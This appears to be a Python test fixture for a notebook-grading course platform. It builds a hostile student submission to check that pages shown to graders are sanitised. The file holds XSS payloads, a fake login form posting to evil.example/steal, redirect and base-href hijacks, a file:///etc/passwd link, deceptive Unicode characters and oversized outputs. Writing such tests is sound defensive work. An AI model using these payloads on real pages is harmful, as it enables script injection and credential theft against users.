"""A submission that tries to run script, to fetch, to hide and to deceive on the pages that others open."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from tiny_course import LESSON, answered, hand_in

from course.lessons import Course

STUDENT = "eve<img src=x onerror=window.XSS='id'>"
SAID = "</code></pre></script></style>" + "".join(
    [
        "<script>window.XSS='script'</script>",
        "<img src=x onerror=\"window.XSS='img'\">",
        "<svg onload=\"window.XSS='svg'\"><script>window.XSS='svg script'</script></svg>",
        "<details open ontoggle=\"window.XSS='toggle'\">x</details>",
        "<iframe srcdoc=\"<script>parent.XSS='frame'</script>\"></iframe>",
        "<a href=\"javascript:window.XSS='link'\">click</a>",
        "<style>body { display: none } .points::after { content: ' 100' }</style>",
        "<form action='http://evil.example/steal'><input name=a><button>Log in</button></form>",
        "<img src='http://evil.example/pixel.png'><link rel=stylesheet href='http://evil.example/a.css'>",
        "<meta http-equiv=refresh content='0;url=http://evil.example/'><base href='http://evil.example/'>",
        "<object data='http://evil.example/'></object><embed src='http://evil.example/'>",
    ]
)
HIDDEN = "\u202egnp.exe\u202c \u2066x\u2069 \u200b \ufeff \x1b[31mred\x1b[0m \x07 \x00 \U000e0041"
MARKDOWN = "\n\n".join(
    [
        SAID,
        "[click](javascript:window.XSS='md') [b](data:text/html,<script>window.XSS='data'</script>)",
        "[c](//evil.example/c) [d](file:///etc/passwd) [e](vbscript:x)",
        "![a](attachment:missing.png) ![b](http://evil.example/b.png) ![c](x\" onerror=\"window.XSS='alt')",
        "[a]: javascript:window.XSS='reference'\n\n[a]",
        HIDDEN,
        "<!-- a comment that does not end",
        "| a | b |\n|---|\n" + "> " * 60 + "deep",
        "w" * 4000,
    ]
)
ADD = f"def add(a, b):\n    {SAID!r}  # {HIDDEN.replace(chr(0), '')}\n    return {SAID!r} * 200"
MEAN = f"def mean(a, b):\n    print('{'x' * 80}\\n' * 20_000)\n    raise ValueError({SAID + HIDDEN!r})"


def outputs() -> list[dict[str, Any]]:
    """Saved outputs of every type."""
    types = ("text/html", "text/markdown", "text/latex", "application/javascript", "image/svg+xml", "text/plain",
             "application/vnd.jupyter.widget-view+json", "image/png")  # fmt: skip
    shown = [{"output_type": "display_data", "metadata": {}, "data": {kind: SAID}} for kind in types]
    return [
        *shown,
        {"output_type": "stream", "name": "stdout", "text": SAID + "\x1b[31m" + HIDDEN + "x" * 2_000_000},
        {"output_type": "error", "ename": SAID, "evalue": SAID, "traceback": [SAID]},
    ]


def hand_in_hostile(course: Course) -> Path:
    """Hand in a notebook with all of it in every place that a notebook has."""
    lesson = course.lesson(LESSON)
    notebook = answered(lesson, add=ADD, mean=MEAN, why=MARKDOWN)
    notebook["metadata"] |= {"title": SAID, "authors": [{"name": SAID}], "widgets": {SAID: SAID}}
    for cell in notebook["cells"]:
        cell["metadata"] |= {"name": SAID, "tags": [SAID]}
        cell["metadata"] |= {"course": {"reason": SAID}, "grade": {"manual_comment": SAID}}  # as if we had written it
        if cell["cell_type"] == "code":
            cell["outputs"] = outputs()
    notebook["cells"] += [
        {"cell_type": "markdown", "id": "a", "metadata": {"nbgrader": {"grade_id": SAID}}, "source": MARKDOWN},
        {"cell_type": "raw", "id": "b", "metadata": {"format": "text/html"}, "source": SAID},
        {"cell_type": "code", "id": "c", "metadata": {}, "source": f"print({SAID!r})", "outputs": outputs(),
         "execution_count": 1},
    ]  # fmt: skip
    return hand_in(lesson, STUDENT, json.dumps(notebook))


def comment(course: Course, grade_id: str, text: str) -> None:
    """A grader's comment, as the formgrader saves it."""
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course.root / 'gradebook.db'}", course.config.id) as book:
        book.find_comment(grade_id, LESSON, LESSON, STUDENT).manual_comment = text
        book.db.commit()
